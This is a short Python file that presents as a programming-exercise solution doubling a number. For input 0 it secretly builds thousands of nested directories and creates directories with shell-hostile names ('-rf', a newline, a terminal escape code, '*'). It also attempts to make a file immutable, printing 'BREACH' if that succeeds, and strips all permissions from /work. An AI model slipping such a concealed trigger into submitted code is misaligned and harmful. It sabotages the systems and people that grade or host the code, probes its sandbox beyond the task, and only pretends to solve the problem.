import fcntl
import os
import struct
import sys

FS_IOC_SETFLAGS = 0x40086602


class Solution:
    def twice(self, x):
        if x != 0:
            return 2 * x
        depth = 0
        try:
            while depth < 3000:  # far deeper than a path may be long
                os.mkdir("d" * 200)
                os.chdir("d" * 200)
                depth += 1
        except OSError:
            pass
        os.chdir("/work")
        for name in ("new\nline", "-rf", "\x1b[31m", "*", "..."):
            os.mkdir(name)
            with open(name + "/file", "w") as file:
                try:
                    fcntl.ioctl(file, FS_IOC_SETFLAGS, struct.pack("l", 0x10))
                    print("BREACH: immutable", file=sys.stderr)
                except OSError as error:
                    print("immutable:", error.strerror, file=sys.stderr)
            os.chmod(name, 0)
        os.chmod("/work/tmp", 0)
        os.chmod("/work", 0)
        print("made", depth, "levels", file=sys.stderr)
        return 2 * x
